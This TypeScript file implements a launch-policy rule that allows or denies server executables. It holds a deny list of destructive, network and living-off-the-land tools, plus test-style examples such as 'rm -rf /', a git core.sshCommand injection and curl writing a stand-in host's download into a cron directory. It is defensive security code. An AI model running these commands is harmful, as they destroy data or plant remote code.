// Which programs may be started as a server at all.
import { byLevel, deny, matches, quote } from "../findings.ts";
import { familyOf } from "../launch/families.ts";
import type { Launch } from "../launch/read-launch.ts";
import type { Finding, ServerRule, ServerSubject } from "../types.ts";

/** What strict knows how to look into. */
const STRICT_PROGRAMS =
  /^(?:node|nodejs|npx|npm|pnpm|yarn|bun|bunx|deno|python|python\d(?:\.\d+)?|py|uv|uvx|pipx|java|dotnet|ruby|go|cargo)$/;

/** Programs that change or fetch things and are no servers, whatever their arguments. */
const TOOLS = new Set(
  `rm rmdir del erase dd mkfs fdisk parted shred truncate chmod chown chgrp chattr mv cp ln install rsync tee xargs find sed awk gawk ed ex vi vim emacs
  sudo su doas pkexec runas gsudo chrt curl wget aria2c nc ncat netcat socat telnet ftp tftp ssh scp sftp sshpass crontab at batch systemctl service launchctl systemd-run init reboot shutdown halt
  kill pkill killall mount umount chroot unshare nsenter insmod modprobe iptables useradd usermod passwd visudo gdb lldb strace ltrace ptrace tcpdump make cmake ninja gcc cc clang ld eval source
  reg regsvr32 rundll32 mshta wscript cscript certutil bitsadmin schtasks sc wmic msiexec installutil regasm regsvcs forfiles msbuild net netsh takeown icacls vssadmin bcdedit
  apt apt-get dpkg yum dnf rpm pacman apk brew port snap flatpak gem cpan cpanm winget choco scoop git svn hg`.split(/\s+/),
);

export const executable: ServerRule = {
  id: "executable",
  about:
    "The program must be one that starts servers: strict knows a list, moderate refuses tools that change or fetch things, lists of the operator and the entry bind at every level.",
  examples: [
    { given: { argv: ["npx", "-y", "pkg@1.0.0"], policy: { level: "strict" } }, verdict: "allow" },
    { given: { argv: ["C:\\nodejs\\node.exe", "server.js"], policy: { level: "strict" } }, verdict: "allow" },
    { given: { argv: ["PYTHON", "server.py"], policy: { level: "strict" } }, verdict: "deny" },
    { given: { argv: ["docker", "run", "-i", "mcp/github"], policy: { level: "strict" } }, verdict: "deny" },
    { given: { argv: ["docker", "run", "-i", "mcp/github"] }, verdict: "allow" },
    { given: { argv: ["/opt/homebrew/bin/github-mcp-server", "stdio"] }, verdict: "allow" },
    { given: { argv: ["rm", "-rf", "/"] }, verdict: "deny" },
    { given: { argv: ["env", "A=1", "sudo", "node", "s.js"] }, verdict: "deny" },
    { given: { argv: ["git", "-c", "core.sshCommand=touch /tmp/x", "fetch"] }, verdict: "deny" },
    { given: { argv: ["curl", "-o", "/etc/cron.d/x", "http://x.example/"], policy: { level: "permissive" } }, verdict: "warn" },
    { given: { argv: [...Array.from({ length: 12 }, () => "env"), "node", "s.js"], policy: { level: "permissive" } }, verdict: "deny" },
    { given: { argv: ["my-server"], policy: { level: "strict", allowedExecutables: ["my-server"] } }, verdict: "allow" },
    { given: { argv: ["node", "s.js"], policy: { level: "permissive", allowedExecutables: ["/usr/bin/node"] } }, verdict: "deny" },
    { given: { argv: ["node", "s.js"], security: { allowed_executables: ["python"] } }, verdict: "deny" },
    { given: { argv: ["rm", "-rf", "/"], security: { allowed_executables: ["rm"], level: "permissive" } }, verdict: "deny" },
  ],
  check(subject) {
    const [first] = subject.launch;
    if (first === undefined) return null;
    if (subject.launch.some(({ unread }) => unread))
      return deny("The command starts a program that starts a program, and so on, further than is looked into", "Start the server itself.");
    const { allowedExecutables, entryExecutables } = subject.settings;
    for (const list of [allowedExecutables, entryExecutables]) {
      if (list !== null && !list.some((item) => isSame(item, first, subject)))
        return deny(
          `${quote(first.command)} is not on the list of executables that may be started`,
          "Add it to `allowed_executables` (the operator's and, where it has one, the entry's).",
        );
    }
    if (allowedExecutables !== null) return null;
    for (const layer of subject.launch) {
      const finding = judge(layer, subject);
      if (finding !== null) return finding;
    }
    return null;
  },
};

function isSame(item: string, { command }: Launch, { context }: ServerSubject): boolean {
  const found = context.executable?.path;
  if (/[\\/]/.test(item)) return item === command || item === found;
  const base = baseName(command, context.platform);
  return matches(item, base) || matches(item, base.replace(/\.(?:exe|cmd|bat|ps1)$/i, ""));
}

function baseName(command: string, platform: NodeJS.Platform): string {
  const base = command.split(/[\\/]/).pop() ?? command;
  const windows = platform === "win32" || /^[A-Za-z]:\\/.test(command);
  return windows ? base.toLowerCase() : base;
}

function judge(layer: Launch, { settings, context }: ServerSubject): Finding | null {
  const { program } = familyOf(layer.command);
  const base = baseName(layer.command, context.platform);
  const plain = base.replace(/\.(?:exe|cmd|bat|ps1|com)$/i, "");
  if (TOOLS.has(program)) {
    return byLevel(
      settings,
      { strict: "deny", moderate: "deny", permissive: "warn" },
      {
        reason: `${quote(layer.command)} is a tool that changes or fetches things, not a server`,
        next: "Start the server's own program; the operator's `allowed_executables` can name an exception.",
      },
    );
  }
  if (settings.level === "strict" && !STRICT_PROGRAMS.test(plain) && layer.family?.kind !== "shell" && layer.family?.name !== "env") {
    return deny(
      `strict does not know how to look into ${quote(layer.command)}`,
      "Use level moderate, or name it in the operator's `allowed_executables`.",
    );
  }
  return null;
}
